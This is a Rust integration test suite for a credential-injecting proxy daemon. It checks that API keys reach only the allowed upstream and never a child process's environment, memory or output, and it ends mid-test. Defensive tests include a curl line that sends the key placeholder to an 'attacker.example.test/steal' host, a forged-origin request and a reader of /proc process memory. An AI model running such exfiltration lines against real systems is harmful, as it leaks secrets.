//! The injecting proxy, end to end: a real HTTPS upstream on loopback (a test CA, a
//! streaming endpoint), the real daemon binary trusting that CA with `--upstream-ca`, and
//! children under `scopehold run --proxy` calling through ordinary HTTP clients (curl,
//! Python's urllib) that honour the base-URL variable. The key must reach the upstream and
//! nowhere else: not the child's environment, `/proc` entries, memory or output.

use std::io::{BufRead, BufReader, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::common::contains;
use crate::users::Killed;

#[path = "../../examples/common/test_tls.rs"]
mod test_tls;

const KEY: &str = "sk-acme-CANARY-proxy-5f1e93c07a";
const KEY2: &str = "sk-acme-CANARY-rotated-77d0be41";

/// What the upstream saw of one request.
#[derive(Debug, Clone)]
struct Seen {
    path: String,
    api_key: Option<String>,
    authorization: Option<String>,
}

/// A TLS upstream on 127.0.0.1 with a certificate for `localhost` from a fresh test CA.
/// `/stream` sends one server-sent event, then the second only once `release` is set.
struct Upstream {
    port: u16,
    ca_pem: PathBuf,
    seen: Arc<Mutex<Vec<Seen>>>,
    release: Arc<tokio::sync::Notify>,
    _rt: tokio::runtime::Runtime,
}

fn upstream(dir: &Path) -> Upstream {
    let (ca_pem, acceptor) = test_tls::localhost_acceptor(dir, "test-ca.pem");
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let release = Arc::new(tokio::sync::Notify::new());
    let (s, r) = (seen.clone(), release.clone());
    rt.spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                continue;
            };
            let acceptor = acceptor.clone();
            let (seen, release) = (s.clone(), r.clone());
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let svc = hyper::service::service_fn(
                    move |req: hyper::Request<hyper::body::Incoming>| {
                        let (seen, release) = (seen.clone(), release.clone());
                        async move {
                            Ok::<_, std::convert::Infallible>(answer(req, &seen, &release).await)
                        }
                    },
                );
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(tls), svc)
                    .await;
            });
        }
    });
    Upstream {
        port,
        ca_pem,
        seen,
        release,
        _rt: rt,
    }
}

/// A channel-backed body: frames sent as the handler decides (a stream that waits).
mod channel_body {
    use bytes::Bytes;
    use std::pin::Pin;
    use std::task::{Context, Poll};
    pub struct Rx(pub tokio::sync::mpsc::Receiver<Bytes>);
    impl http_body::Body for Rx {
        type Data = Bytes;
        type Error = std::convert::Infallible;
        fn poll_frame(
            mut self: Pin<&mut Self>,
            cx: &mut Context<'_>,
        ) -> Poll<Option<Result<http_body::Frame<Bytes>, Self::Error>>> {
            self.0
                .poll_recv(cx)
                .map(|o| o.map(|b| Ok(http_body::Frame::data(b))))
        }
    }
}

async fn answer(
    req: hyper::Request<hyper::body::Incoming>,
    seen: &Mutex<Vec<Seen>>,
    release: &Arc<tokio::sync::Notify>,
) -> hyper::Response<channel_body::Rx> {
    use http_body_util::BodyExt;
    let h = |n: &str| {
        req.headers()
            .get(n)
            .map(|v| v.to_str().unwrap().to_string())
    };
    let path = req
        .uri()
        .path_and_query()
        .map_or("/".into(), |p| p.to_string());
    seen.lock().unwrap().push(Seen {
        path: path.clone(),
        api_key: h("x-api-key"),
        authorization: h("authorization"),
    });
    let key = h("x-api-key").unwrap_or_default();
    let body = req.into_body().collect().await.unwrap().to_bytes();
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    let mut resp = hyper::Response::new(channel_body::Rx(rx));
    if path.starts_with("/stream") {
        resp.headers_mut()
            .insert("content-type", "text/event-stream".parse().unwrap());
        let release = release.clone();
        tokio::spawn(async move {
            let _ = tx.send(bytes::Bytes::from_static(b"data: one\n\n")).await;
            // Bounded: a proxy that buffered the whole body would still see it end.
            let _ = tokio::time::timeout(Duration::from_secs(10), release.notified()).await;
            let _ = tx.send(bytes::Bytes::from_static(b"data: two\n\n")).await;
        });
    } else {
        // The upstream tells the caller only whether the key was right, never the key.
        let ok = key == KEY || key == KEY2;
        *resp.status_mut() = if ok {
            hyper::StatusCode::OK
        } else {
            hyper::StatusCode::UNAUTHORIZED
        };
        let v = if key == KEY2 { 2 } else { 1 };
        let text = format!(
            "{{\"ok\":{ok},\"key_version\":{v},\"path\":\"{path}\",\"body_bytes\":{}}}",
            body.len()
        );
        let _ = tx.send(bytes::Bytes::from(text)).await;
    }
    resp
}

struct Daemon {
    _dir: tempfile::TempDir,
    home: PathBuf,
    socket: PathBuf,
    _child: Killed,
}

fn bin() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_scopehold"));
    c.env_remove("SCOPEHOLD_HOME")
        .env_remove("SCOPEHOLD_TOKEN")
        .env("HOME", "/nonexistent-home");
    c
}

impl Daemon {
    fn start(up: &Upstream, extra: &[&str]) -> Daemon {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("state");
        let socket = dir.path().join("s.sock");
        let child = Killed(
            bin()
                .arg("--home")
                .arg(&home)
                .arg("--socket")
                .arg(&socket)
                .arg("daemon")
                .arg("--upstream-ca")
                .arg(&up.ca_pem)
                .args(extra)
                .stderr(std::fs::File::create(dir.path().join("daemon.log")).unwrap())
                .spawn()
                .unwrap(),
        );
        for _ in 0..400 {
            if socket.exists() {
                break;
            }
            std::thread::sleep(Duration::from_millis(25));
        }
        assert!(socket.exists(), "the daemon did not start");
        Daemon {
            _dir: dir,
            home,
            socket,
            _child: child,
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = bin();
        c.arg("--home")
            .arg(&self.home)
            .arg("--socket")
            .arg(&self.socket)
            .args(args);
        c
    }

    /// `scopehold run --proxy` in project demo as the agent `cred`, under the test's uid
    /// (root, a member: hence `--allow-member-uid`, which the trial needs).
    fn run_proxy(&self, cred: &str, command: &[&str]) -> Command {
        let mut c = self.cmd(&[
            "run",
            "--proxy",
            "--allow-member-uid",
            "--project",
            "demo",
            "--",
        ]);
        c.args(command).env("SCOPEHOLD_TOKEN", cred);
        c
    }

    /// A live `run --proxy` whose child writes `echo` (shell words, e.g. `$ACME_API_KEY`) to
    /// `dir/ph`, then stays alive until `dir/go` exists (at most 20 s). Returns the run
    /// (killed when dropped) and the line its child wrote; write `dir/go` to let it end.
    fn held_run(&self, cred: &str, dir: &Path, echo: &str) -> (Killed, String) {
        let (ph, go) = (dir.join("ph"), dir.join("go"));
        let _ = std::fs::remove_file(&ph);
        let _ = std::fs::remove_file(&go);
        let script = format!(
            r#"echo "{echo}" > {ph}
i=0; while [ ! -e {go} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done"#,
            ph = ph.display(),
            go = go.display()
        );
        let run = Killed(
            self.run_proxy(cred, &["sh", "-c", &script])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap(),
        );
        (run, wait_file(&ph))
    }

    fn ok(&self, args: &[&str]) -> String {
        let o = self.cmd(args).output().unwrap();
        assert!(
            o.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        String::from_utf8(o.stdout).unwrap()
    }

    fn put(&self, secret: &str, value: &str) {
        let mut c = self
            .cmd(&["secret", "put", secret, "--project", "demo"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        c.stdin.take().unwrap().write_all(value.as_bytes()).unwrap();
        assert!(c.wait().unwrap().success());
    }

    fn rotate(&self, secret: &str, value: &str) {
        let mut c = self
            .cmd(&["secret", "rotate", secret])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        c.stdin.take().unwrap().write_all(value.as_bytes()).unwrap();
        assert!(c.wait().unwrap().success());
    }

    /// Project `demo`, provider `acme` at the test upstream, secret `acme/prod` (the key),
    /// agent `bot` granted it. Returns bot's credential.
    fn set_up(&self, up: &Upstream) -> String {
        self.ok(&["project", "create", "demo"]);
        let host = format!("localhost:{}", up.port);
        self.ok(&[
            "provider",
            "add",
            "acme",
            "--host",
            &host,
            "--header",
            "x-api-key",
            "--base-url-env",
            "ACME_BASE_URL",
            "--key-env",
            "ACME_API_KEY",
        ]);
        self.put("acme/prod", KEY);
        let cred = self.ok(&["agent", "create", "bot"]);
        let cred = cred
            .split_whitespace()
            .find(|w| w.starts_with("shk_"))
            .unwrap()
            .to_string();
        self.ok(&[
            "grant",
            "create",
            "agent:bot",
            "acme/prod",
            "--project",
            "demo",
        ]);
        cred
    }

    fn events(&self) -> Vec<serde_json::Value> {
        let o = self.ok(&["--json", "log", "show"]);
        o.lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    /// Waits (bounded) for an event of `kind` matching `f`.
    fn wait_event(&self, kind: &str, f: impl Fn(&serde_json::Value) -> bool) -> serde_json::Value {
        for _ in 0..100 {
            if let Some(e) = self
                .events()
                .into_iter()
                .find(|e| e["kind"] == kind && f(e))
            {
                return e;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        panic!("no {kind} event: {:#?}", self.events());
    }
}

/// `curl` over the daemon's unix socket.
fn curl_unix(socket: &Path, args: &[&str]) -> Output {
    Command::new("curl")
        .arg("-sS")
        .arg("--unix-socket")
        .arg(socket)
        .args(args)
        .output()
        .unwrap()
}

fn body_of(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|_| {
        panic!(
            "not JSON: {} / {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

/// Every readable mapping of `pid`'s memory, as root reads it.
fn memory_of(pid: u32) -> Vec<u8> {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let mut mem = match std::fs::File::open(format!("/proc/{pid}/mem")) {
        Ok(f) => f,
        Err(_) => return Vec::new(),
    };
    let mut out = Vec::new();
    use std::io::{Seek, SeekFrom};
    for line in maps.lines() {
        let mut f = line.split_whitespace();
        let (Some(range), Some(perms)) = (f.next(), f.next()) else {
            continue;
        };
        if !perms.starts_with('r') || line.contains("[vvar") || line.contains("[vsyscall") {
            continue;
        }
        let (a, b) = range.split_once('-').unwrap();
        let (a, b) = (
            u64::from_str_radix(a, 16).unwrap(),
            u64::from_str_radix(b, 16).unwrap(),
        );
        if b - a > 512 << 20 || mem.seek(SeekFrom::Start(a)).is_err() {
            continue;
        }
        let mut buf = vec![0u8; (b - a) as usize];
        if mem.read_exact(&mut buf).is_ok() {
            out.extend_from_slice(&buf);
        }
    }
    out
}

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

#[test]
fn a_child_under_run_proxy_uses_the_key_without_ever_holding_it() {
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    let d = Daemon::start(&up, &[]);
    let cred = d.set_up(&up);
    let out = dir.path().join("out");
    let ready = dir.path().join("ready");
    // An ordinary client: Python's urllib, told where to go by ACME_BASE_URL and what key to
    // send by ACME_API_KEY, as an SDK would be. It then waits so its memory can be read.
    let script = format!(
        r#"
import os, json, urllib.request, time, sys
base = os.environ["ACME_BASE_URL"]
req = urllib.request.Request(base + "/v1/echo?user=alice", data=b"hello", headers={{"x-api-key": os.environ["ACME_API_KEY"]}})
body = urllib.request.urlopen(req).read().decode()
print(body)
sys.stderr.write("stderr line\n")
open({out:?}, "w").write(json.dumps({{"env": dict(os.environ), "body": body}}))
open({ready:?}, "w").write(str(os.getpid()))
time.sleep(30)
"#,
        out = out.to_str().unwrap(),
        ready = ready.to_str().unwrap()
    );
    let mut run = d
        .run_proxy(&cred, &["python3", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pid = None;
    for _ in 0..200 {
        if let Ok(p) = std::fs::read_to_string(&ready) {
            pid = p.trim().parse::<u32>().ok();
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let Some(pid) = pid else {
        let _ = run.kill();
        let o = run.wait_with_output().unwrap();
        panic!(
            "the child never got an answer: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    };
    // The upstream saw the key, in the profile's header, and nothing of ScopeHold's.
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].api_key.as_deref(), Some(KEY));
    assert_eq!(seen[0].path, "/v1/echo?user=alice");
    assert!(seen[0].authorization.is_none());
    let got: serde_json::Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    let answer: serde_json::Value = serde_json::from_str(got["body"].as_str().unwrap()).unwrap();
    assert_eq!(
        (answer["ok"].clone(), answer["body_bytes"].clone()),
        (true.into(), 5.into())
    );
    // Its environment: a placeholder and a base URL, never the key or the agent's credential.
    let env = &got["env"];
    let placeholder = env["ACME_API_KEY"].as_str().unwrap();
    assert!(placeholder.starts_with("shr_"), "{placeholder}");
    assert!(
        env["ACME_BASE_URL"]
            .as_str()
            .unwrap()
            .ends_with("/v1/proxy/demo/acme/prod")
    );
    assert!(env.get("SCOPEHOLD_TOKEN").is_none());
    // Nothing the child can reach holds the key in any form: its /proc entries, its memory,
    // and (read as root) the run process's memory too.
    let run_pid = run.id();
    let mut places = vec![
        (
            "child environ",
            std::fs::read(format!("/proc/{pid}/environ")).unwrap(),
        ),
        (
            "child cmdline",
            std::fs::read(format!("/proc/{pid}/cmdline")).unwrap(),
        ),
        ("child output file", std::fs::read(&out).unwrap()),
    ];
    if is_root() {
        places.push(("child memory", memory_of(pid)));
        places.push(("run memory", memory_of(run_pid)));
        assert!(
            places[3].1.len() > 1 << 20,
            "the child's memory was not read"
        );
    }
    for (what, bytes) in &places {
        for form in crate::common::canary_forms(KEY) {
            assert!(!contains(bytes, &form), "the key is in the {what}");
        }
        // The run process holds the agent's credential (it started the run and ends it);
        // non-dumpable, it is out of the child's reach. The child must not have it.
        if *what != "run memory" {
            assert!(
                !contains(bytes, cred.as_bytes()),
                "the agent credential is in the {what}"
            );
        }
    }
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGTERM,
    );
    let o = run.wait_with_output().unwrap();
    for stream in [&o.stdout, &o.stderr] {
        for form in crate::common::canary_forms(KEY) {
            assert!(!contains(stream, &form), "the key is in the child's output");
        }
    }
    assert!(String::from_utf8_lossy(&o.stdout).contains("\"ok\":true"));
    // The call is in the log: by identity, with the host, the path without query values,
    // the run; then its outcome. The run started and ended.
    let call = d.wait_event("proxy_call", |_| true);
    let ev = &call["event"];
    assert_eq!(ev["identity"], "agent:bot");
    assert_eq!(ev["secret"], "acme/prod");
    assert_eq!(ev["host"], format!("localhost:{}", up.port));
    assert_eq!(ev["method"], "POST");
    assert_eq!(ev["path"], "/v1/echo?user=");
    assert_eq!(ev["version"], 1);
    assert!(ev["run"].as_u64().is_some());
    let seq = call["seq"].as_u64().unwrap();
    let res = d.wait_event("proxy_results", |e| {
        e["event"]["results"]
            .as_array()
            .is_some_and(|r| r.iter().any(|x| x["call"] == seq))
    });
    let r = res["event"]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["call"] == seq)
        .unwrap()
        .clone();
    assert_eq!(
        (r["status"].clone(), r["bytes_up"].clone()),
        (200.into(), 5.into())
    );
    assert!(r["bytes_down"].as_u64().unwrap() > 10);
    d.wait_event("run_started", |e| e["event"]["identity"] == "agent:bot");
    d.wait_event("run_ended", |_| true);
    // The run is over: its placeholder is dead, and its use is refused and counted.
    let o = curl_unix(
        &d.socket,
        &[
            "-H",
            &format!("x-api-key: {placeholder}"),
            "http://localhost/v1/proxy/demo/acme/prod/v1/echo",
        ],
    );
    assert_eq!(body_of(&o)["error"]["code"], "unauthenticated");
    assert_eq!(up.seen.lock().unwrap().len(), 1);
    // And the log never holds the key.
    let log = d.ok(&["--json", "log", "show"]);
    assert!(!log.contains(KEY));

    // The control: the same scan finds the key in a child of plain `run` (value in its
    // environment), so the scans above can fail.
    if is_root() {
        let ready2 = dir.path().join("ready2");
        let script = format!(
            "import os, time; open({:?}, 'w').write(str(os.getpid())); time.sleep(30)",
            ready2.to_str().unwrap()
        );
        let mut plain = d
            .cmd(&["run", "--project", "demo", "--", "python3", "-c", &script])
            .env("SCOPEHOLD_TOKEN", &cred)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut pid2 = None;
        for _ in 0..200 {
            // The file exists before its pid is written: wait for a whole pid.
            pid2 = std::fs::read_to_string(&ready2)
                .ok()
                .and_then(|p| p.trim().parse::<u32>().ok());
            if pid2.is_some() {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let found = pid2.is_some_and(|p| contains(&memory_of(p), KEY.as_bytes()));
        let _ = plain.kill();
        let _ = plain.wait();
        if let Some(p) = pid2 {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(p as i32),
                nix::sys::signal::Signal::SIGKILL,
            );
        }
        assert!(found, "the scan did not find the key where it is");
    }
}

#[test]
fn a_host_outside_the_profile_is_refused_and_recorded_and_streams_pass_as_they_come() {
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    // The daemon's own loopback listener this time (the run uses it directly).
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let listen = format!("127.0.0.1:{port}");
    let d = Daemon::start(&up, &["--proxy-listen", &listen]);
    let cred = d.set_up(&up);
    let out = dir.path().join("out");
    // curl as an HTTP_PROXY client aimed at another host, with the placeholder: refused.
    let script = format!(
        r#"curl -s -x "$SCOPEHOLD_PROXY" -H "x-api-key: $ACME_API_KEY" http://attacker.example.test/steal > {o}.evil
curl -s -H "x-api-key: $ACME_API_KEY" "$ACME_BASE_URL/ok" > {o}.ok
echo "$ACME_BASE_URL" > {o}.url"#,
        o = out.to_str().unwrap()
    );
    let o = d.run_proxy(&cred, &["sh", "-c", &script]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let evil: serde_json::Value =
        serde_json::from_slice(&std::fs::read(format!("{}.evil", out.display())).unwrap()).unwrap();
    assert_eq!(evil["error"]["code"], "denied");
    let ok = std::fs::read_to_string(format!("{}.ok", out.display())).unwrap();
    assert!(ok.contains("\"ok\":true"), "{ok}");
    // The base URL is the daemon's listener: no relay in between.
    let url = std::fs::read_to_string(format!("{}.url", out.display())).unwrap();
    assert!(url.starts_with(&format!("http://{listen}/")), "{url}");
    // A page whose name was rebound to 127.0.0.1 sends its own name: refused.
    let o = Command::new("curl")
        .args(["-sS", "-H", "Host: rebound.example.test", "-H"])
        .arg(format!("Authorization: Bearer {cred}"))
        .arg(format!("http://{listen}/v1/proxy/demo/acme/prod/v1/x"))
        .output()
        .unwrap();
    assert!(
        body_of(&o)["error"]["message"]
            .as_str()
            .unwrap()
            .contains("127.0.0.1 or localhost only")
    );
    // The upstream saw one request (the allowed one); the refusal is in the log, by host.
    assert_eq!(up.seen.lock().unwrap().len(), 1);
    let denied = d.wait_event("proxy_denied", |_| true);
    let shown = d.ok(&["log", "show", "--kind", "proxy_denied"]);
    assert!(
        shown.contains("attacker.example.test") && !shown.contains("proxy_call"),
        "{shown}"
    );
    let shown = d.ok(&["log", "show", "--kind", "proxy_call"]);
    assert!(
        shown.contains("proxy_call") && !shown.contains("attacker"),
        "{shown}"
    );
    assert_eq!(denied["event"]["host"], "attacker.example.test");
    assert_eq!(denied["event"]["reason"], "host not in provider profile");
    assert_eq!(denied["event"]["identity"], "agent:bot");

    // A stream passes through as it comes: the first event arrives while the upstream is
    // still holding back the second.
    let mut c = Command::new("curl")
        .args(["-sN", "--unix-socket"])
        .arg(&d.socket)
        .args([
            "-H",
            &format!("Authorization: Bearer {cred}"),
            "http://localhost/v1/proxy/demo/acme/prod/stream",
        ])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(c.stdout.take().unwrap());
    let mut first = String::new();
    let t = Instant::now();
    lines.read_line(&mut first).unwrap();
    assert_eq!(first, "data: one\n");
    assert!(
        t.elapsed() < Duration::from_secs(8),
        "the first event waited for the whole body"
    );
    // While that upstream holds its stream open, other calls go through: a slow upstream
    // holds no lock.
    let t = Instant::now();
    let o = curl_unix(
        &d.socket,
        &[
            "-H",
            &format!("Authorization: Bearer {cred}"),
            "http://localhost/v1/proxy/demo/acme/prod/v1/quick",
        ],
    );
    assert_eq!(body_of(&o)["ok"], true);
    assert!(t.elapsed() < Duration::from_secs(5));
    up.release.notify_one();
    let mut rest = String::new();
    lines.read_to_string(&mut rest).unwrap();
    assert!(rest.contains("data: two"), "{rest}");
    c.wait().unwrap();
}

#[test]
fn rotation_reaches_the_next_proxied_call_and_revocation_stops_them_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    let d = Daemon::start(&up, &[]);
    let cred = d.set_up(&up);
    let call = || {
        body_of(&curl_unix(
            &d.socket,
            &[
                "-H",
                &format!("Authorization: Bearer {cred}"),
                "http://localhost/v1/proxy/demo/acme/prod/v1/models",
            ],
        ))
    };
    assert_eq!(call()["key_version"], 1);
    d.rotate("acme/prod", KEY2);
    // The very next call carries the new version: no restart, no cache to expire.
    assert_eq!(call()["key_version"], 2);
    assert_eq!(
        up.seen.lock().unwrap().last().unwrap().api_key.as_deref(),
        Some(KEY2)
    );
    let grants = d.ok(&["--json", "grant", "list"]);
    let id = serde_json::from_str::<serde_json::Value>(&grants).unwrap()["grants"][0]["id"]
        .as_u64()
        .unwrap();
    d.ok(&["grant", "revoke", &id.to_string()]);
    let n = up.seen.lock().unwrap().len();
    // Refused, and its holder told why.
    assert_eq!(call()["error"]["code"], "grant_unusable");
    assert_eq!(
        up.seen.lock().unwrap().len(),
        n,
        "a revoked grant reached the upstream"
    );
    let denied = d.wait_event("proxy_denied", |_| true);
    assert_eq!(denied["event"]["reason"], "grant revoked");
    // Bad input: a malformed proxy path, a forged placeholder; the daemon keeps serving.
    let o = curl_unix(&d.socket, &["http://localhost/v1/proxy/Bad/acme/prod/x"]);
    assert_eq!(body_of(&o)["error"]["code"], "invalid_request");
    let o = curl_unix(
        &d.socket,
        &[
            "-H",
            "x-api-key: shr_forged",
            "http://localhost/v1/proxy/demo/acme/prod/x",
        ],
    );
    assert_eq!(body_of(&o)["error"]["code"], "unauthenticated");
    // No uid-only callers through the proxy (a uid is also its user's browser), and no
    // browsers at all.
    let o = curl_unix(&d.socket, &["http://localhost/v1/proxy/demo/acme/prod/x"]);
    assert!(
        body_of(&o)["error"]["message"]
            .as_str()
            .unwrap()
            .contains("needs a credential")
    );
    let o = curl_unix(
        &d.socket,
        &[
            "-H",
            "Origin: http://evil.example.test",
            "-H",
            &format!("Authorization: Bearer {cred}"),
            "http://localhost/v1/proxy/demo/acme/prod/x",
        ],
    );
    assert!(
        body_of(&o)["error"]["message"]
            .as_str()
            .unwrap()
            .contains("web browsers")
    );
    let h = curl_unix(&d.socket, &["http://localhost/v1/health"]);
    assert_eq!(body_of(&h)["status"], "ok");
}

#[test]
fn revoking_an_agent_stops_its_live_runs_placeholders_at_once() {
    // A placeholder is the agent acting: when the agent is revoked while its `run --proxy`
    // child is still alive, the child's next proxied call must be refused, not honoured until
    // the run ends by itself.
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    let d = Daemon::start(&up, &[]);
    let cred = d.set_up(&up);
    let (run, ph) = d.held_run(&cred, dir.path(), "$ACME_API_KEY");
    assert!(ph.starts_with("shr_"), "{ph}");
    let call = |path: &str| {
        curl_unix(
            &d.socket,
            &[
                "-H",
                &format!("x-api-key: {ph}"),
                &format!("http://localhost/v1/proxy/demo/acme/prod/{path}"),
            ],
        )
    };
    // Live: the placeholder works, and the upstream saw the real key.
    assert_eq!(body_of(&call("v1/before"))["key_version"], 1);
    assert_eq!(
        up.seen.lock().unwrap().last().unwrap().api_key.as_deref(),
        Some(KEY)
    );
    let n = up.seen.lock().unwrap().len();
    d.ok(&["agent", "revoke", "bot"]);
    // The run is still alive (its child waits for `go`), and its very next call is refused.
    let refused = body_of(&call("v1/after"));
    assert!(refused["error"]["code"].is_string(), "{refused}");
    assert_eq!(
        up.seen.lock().unwrap().len(),
        n,
        "a revoked agent's placeholder reached the upstream"
    );
    let ended = d.wait_event("run_ended", |_| true);
    assert_eq!(ended["event"]["reason"], "agent revoked");
    // The credential itself is refused too, and the daemon keeps serving.
    let o = curl_unix(
        &d.socket,
        &[
            "-H",
            &format!("Authorization: Bearer {cred}"),
            "http://localhost/v1/proxy/demo/acme/prod/v1/direct",
        ],
    );
    assert!(body_of(&o)["error"]["code"].is_string());
    assert_eq!(up.seen.lock().unwrap().len(), n);
    let h = curl_unix(&d.socket, &["http://localhost/v1/health"]);
    assert_eq!(body_of(&h)["status"], "ok");
    std::fs::write(dir.path().join("go"), "").unwrap();
    drop(run);
}

#[test]
fn a_run_under_a_members_uid_is_refused_unless_asked_for() {
    // The test runs as root, the first admin member: a child of a run under root could
    // resolve as that member with no credential at all, so the run is refused.
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    let d = Daemon::start(&up, &[]);
    let cred = d.set_up(&up);
    let marker = dir.path().join("started");
    let o = d
        .cmd(&[
            "run",
            "--proxy",
            "--project",
            "demo",
            "--",
            "touch",
            marker.to_str().unwrap(),
        ])
        .env("SCOPEHOLD_TOKEN", &cred)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success() && err.contains("member"), "{err}");
    assert!(!marker.exists(), "the command was started");
    assert!(d.events().iter().all(|e| e["kind"] != "run_started"));
}

#[test]
fn https_proxy_clients_get_the_key_injected_inside_connect_and_other_hosts_pass_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    // A second server outside every profile (its own test CA, another port).
    let other_dir = tempfile::tempdir().unwrap();
    let other = upstream(other_dir.path());
    let d = Daemon::start(&up, &["--tunnel-other-connect"]);
    let cred = d.set_up(&up);
    let out = dir.path().join("out");
    // curl with no key and no base URL: it only knows HTTPS_PROXY and the CA bundle, as
    // git, gh or any CLI would.
    let script = format!(
        r#"curl -sS https://localhost:{p}/v1/echo > {o}.mitm 2> {o}.mitm.err
curl -sSk https://localhost:{q}/v1/echo > {o}.other 2> {o}.other.err
echo "$HTTPS_PROXY" | cut -d@ -f2 > {o}.proxy
env > {o}.env"#,
        p = up.port,
        q = other.port,
        o = out.display(),
    );
    let o = d.run_proxy(&cred, &["sh", "-c", &script]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let read = |ext: &str| std::fs::read_to_string(format!("{}.{ext}", out.display())).unwrap();
    // Inside the CONNECT to the profile's host: TLS from the ScopeHold CA, the key injected.
    assert!(
        read("mitm").contains("\"ok\":true"),
        "{} {} {}",
        read("mitm"),
        read("mitm.err"),
        std::fs::read_to_string(d.home.parent().unwrap().join("daemon.log")).unwrap()
    );
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].api_key.as_deref(), Some(KEY));
    // Another host: tunnelled untouched, end to end (the child's TLS, not ours), no key.
    assert!(
        read("other").contains("\"ok\":false"),
        "{}",
        read("other.err")
    );
    let oseen = other.seen.lock().unwrap().clone();
    assert!(
        !oseen.is_empty()
            && oseen
                .iter()
                .all(|s| s.api_key.is_none() && s.authorization.is_none())
    );
    // The child's environment: a proxy URL with a placeholder, a bundle; never the key.
    let env = read("env");
    assert!(env.contains("SSL_CERT_FILE=") && env.contains("HTTPS_PROXY=http://scopehold:shr_"));
    for form in crate::common::canary_forms(KEY) {
        assert!(!contains(env.as_bytes(), &form));
    }
    let call = d.wait_event("proxy_call", |_| true);
    assert_eq!(call["event"]["host"], format!("localhost:{}", up.port));
    assert_eq!(call["event"]["path"], "/v1/echo");
    // The run is over: the bundle it wrote is gone.
    let bundle = env
        .lines()
        .find_map(|l| l.strip_prefix("SSL_CERT_FILE="))
        .unwrap();
    assert!(!Path::new(bundle).exists());

    // By default the daemon refuses tunnels to other hosts altogether.
    drop(d);
    let d = Daemon::start(&up, &[]);
    let cred = d.set_up(&up);
    let script = format!(
        "curl -sk -o /dev/null -w '%{{http_code}}' https://localhost:{q}/ > {o}.refused; true",
        q = other.port,
        o = out.display()
    );
    let n = other.seen.lock().unwrap().len();
    let o = d.run_proxy(&cred, &["sh", "-c", &script]).output().unwrap();
    assert!(o.status.success());
    assert_eq!(
        other.seen.lock().unwrap().len(),
        n,
        "a refused tunnel reached the host"
    );
}

/// Waits (bounded) for a file and returns its contents.
fn wait_file(p: &Path) -> String {
    for _ in 0..200 {
        if let Ok(s) = std::fs::read_to_string(p)
            && s.ends_with('\n')
        {
            return s.trim().to_string();
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("no {}", p.display());
}

#[test]
fn another_uid_holding_a_live_placeholder_gets_nothing_by_any_path() {
    // A hostile local user who got hold of a run's placeholder while the run is alive (read
    // from a log line, a shared file): through the daemon's listener, inside CONNECT, and
    // through a run's relay, it must get neither a call nor the key.
    let Some(stranger) = crate::users::TestUser::create("px", &["-N"]) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let up = upstream(dir.path());
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let listen = format!("127.0.0.1:{port}");
